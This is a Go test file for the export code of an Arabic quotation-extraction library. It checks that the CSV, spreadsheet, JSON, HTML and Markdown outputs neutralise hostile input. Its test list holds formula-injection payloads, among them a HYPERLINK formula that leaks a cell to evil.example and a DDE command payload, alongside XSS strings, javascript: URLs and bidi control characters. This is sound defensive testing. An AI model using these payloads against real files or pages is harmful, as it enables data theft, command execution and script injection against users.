package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"github.com/qawl-nlp/qawl/quotes"
	"github.com/qawl-nlp/qawl/speakers"
)

// nasty are texts that mean something to a program that reads a table or page.
var nasty = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"اضغط")`, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
	"＝1+1", "'=1+1", "''", "'قال'",
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</textarea></style><svg onload=alert(1)>`, "{{.Title}}", "&lt;b&gt;",
	"[رابط](javascript:alert(1))", "![](http://evil.example/x.png)", "| خلية | أخرى |", "`code` *bold* _it_ ~~no~~ <!-- -->",
	"ثمنه \u202e001\u202c دينار", "\u2067معزول\u2069 \u200fعلامة\u200e \u202bتضمين\u202c \u061c", "a,b;c\td\"e", "_x0041_", "سطر\nآخر\r\nوآخر",
}

// hostile makes a document of every nasty text, which is everywhere in it.
func hostile() (docs []*quotes.Document, statements [][]quotes.Statement) {
	for i, s := range nasty {
		text := "قال فلان: " + s + "\nخاتمة"
		at := strings.Index(text, s)
		said := quotes.Span{Text: s, Start: at, End: at + len(s)}
		docs = append(docs, &quotes.Document{ID: s, Text: text, Title: s, Date: s, Outlet: s, URL: "javascript:alert('" + s + "')"})
		statements = append(statements, []quotes.Statement{{
			ID: i + 1, Type: quotes.Direct, Content: said, Quotes: []quotes.Span{said},
			Cue:     quotes.Cue{Span: quotes.Span{Text: "قال", Start: 0, End: 6}, Lemma: "قال", Class: "say"},
			Speaker: quotes.Speaker{ID: "s1", Name: s, Kind: speakers.Person, Role: s, Mention: said, How: speakers.ByName},
			Via:     s, Sentence: said, Confidence: 0.5, Rules: []string{"verb.quote"},
		}})
	}
	return docs, statements
}

func exportHostile(t *testing.T, format string, o Options) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := New(format, &b, o)
	if err != nil {
		t.Fatal(err)
	}
	docs, all := hostile()
	for i, d := range docs {
		if err := w.Write(d, all[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// ends makes line ends LF, as readers of XML and of CSV in Go have it.
func ends(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }

func TestHostileCSV(t *testing.T) {
	for _, format := range []string{"csv", "tsv"} {
		for _, marked := range []bool{false, true} {
			data := exportHostile(t, format, Options{Fields: []string{"quote", "speaker", "title", "id"}, BOM: marked})
			if bytes.HasPrefix(data, []byte(bom)) != marked {
				t.Fatalf("%s: begins with %.10q", format, data)
			}
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(bom))))
			if format == "tsv" {
				r.Comma = '\t'
			}
			lines, err := r.ReadAll()
			if err != nil || len(lines) != len(nasty)+1 {
				t.Fatalf("%s: %d lines, %v", format, len(lines), err)
			}
			for i, s := range nasty {
				got := lines[i+1][0]
				if marked {
					if got != "" && strings.ContainsAny(got[:1], "=+-@\t\r\n") || strings.HasPrefix(got, "＝") {
						t.Errorf("%s: %q could run as a formula", format, got)
					}
					got = fuse(got)
				}
				want := ends(visible(s))
				if marked { // line breaks are CRLF there, and csv.Writer leaves out a CR alone
					want = strings.ReplaceAll(want, "\r", "")
				}
				if got != want {
					t.Errorf("%s, BOM %v: %q, expected %q", format, marked, got, want)
				}
			}
		}
	}
}

// TestDefuse undoes what it did, and only that.
func TestDefuse(t *testing.T) {
	for _, s := range append([]string{"", "'", "'a", "''=", "قال", "1-2"}, nasty...) {
		if got := fuse(defuse(s)); got != s {
			t.Errorf("%q comes back as %q", s, got)
		}
	}
}

func TestHostileXLSX(t *testing.T) {
	f, err := excelize.OpenReader(bytes.NewReader(exportHostile(t, "xlsx", Options{Fields: []string{"quote", "speaker"}})))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	lines, err := f.GetRows(statementSheet)
	if err != nil || len(lines) != len(nasty)+1 {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	for i, s := range nasty {
		if want := visible(s); lines[i+1][0] != want {
			t.Errorf("%q, expected %q", lines[i+1][0], want)
		}
		for _, column := range []string{"A", "B"} {
			cell := column + strconv.Itoa(i+2)
			if formula, err := f.GetCellFormula(statementSheet, cell); formula != "" || err != nil {
				t.Errorf("%s has the formula %q, %v", cell, formula, err)
			}
			if kind, err := f.GetCellType(statementSheet, cell); kind != excelize.CellTypeInlineString || err != nil {
				t.Errorf("%s is of type %v, %v", cell, kind, err)
			}
		}
	}
}

// TestHostileJSON keeps every text as it is.
func TestHostileJSON(t *testing.T) {
	var got []quotes.Record
	if err := json.Unmarshal(exportHostile(t, "json", Options{}), &got); err != nil {
		t.Fatal(err)
	}
	for i, s := range nasty {
		if got[i].Content.Text != s || got[i].Speaker.Name != s || got[i].Quotes[0].Text != s {
			t.Errorf("%q comes back as %+v", s, got[i])
		}
	}
}

func TestHostileJSONLD(t *testing.T) {
	data := exportHostile(t, "jsonld", Options{})
	var got []map[string]any
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatal(err)
	}
	for i, s := range nasty {
		if got[3*i+1]["text"] != s {
			t.Errorf("%q comes back as %q", s, got[3*i+1]["text"])
		}
	}
	identifier := regexp.MustCompile(`"(@?id|url|source|body)":"([^"]*)"`)
	for _, m := range identifier.FindAllStringSubmatch(string(data), -1) {
		if !strings.HasPrefix(m[2], "#") {
			t.Errorf("%s is %q", m[1], m[2])
		}
	}
}

// TestHostilePages looks for markup that came through. What the page shows is
// tested in a browser.
func TestHostilePages(t *testing.T) {
	for _, format := range []string{"html", "markdown"} {
		page := string(exportHostile(t, format, Options{}))
		for _, no := range []string{"<script>alert", "<img", "<svg onload", "href=\"javascript", "<javascript:"} {
			if strings.Contains(page, no) {
				t.Errorf("%s: has %s", format, no)
			}
		}
		for _, r := range page {
			if unicode.Is(unicode.Bidi_Control, r) {
				t.Fatalf("%s: has the control character %U", format, r)
			}
		}
	}
	md := string(exportHostile(t, "markdown", Options{}))
	contains(t, md, `\[رابط\](javascript:alert(1))`, `\!\[\](http://evil.example/x.png)`, `\| خلية \| أخرى \|`, `&lt;script&gt;`)
	for line := range strings.Lines(md) {
		if bars := strings.Count(strings.ReplaceAll(line, `\|`, ""), "|"); bars != 0 && bars != len(reading)+1 {
			t.Errorf("%d bars in %s", bars, line)
		}
	}
}

func TestWebAddress(t *testing.T) {
	for in, want := range map[string]string{
		"https://a.example/ب?x=1":            "https://a.example/%D8%A8?x=1",
		" http://a.example ":                 "http://a.example",
		"HTTP://a.example":                   "http://a.example",
		"javascript:alert(1)":                "",
		"JavaScript://a.example/%0aalert(1)": "",
		"data:text/html,x":                   "",
		"//a.example":                        "",
		"/etc/passwd":                        "",
		"https:///x":                         "",
		"":                                   "",
		"https://a.example/<b>'\"":           "https://a.example/%3Cb%3E%27%22",
		"https://a.example/\u202egpj":        "https://a.example/gpj",
	} {
		if got := webAddress(in); got != want {
			t.Errorf("%q: %q, expected %q", in, got, want)
		}
	}
}
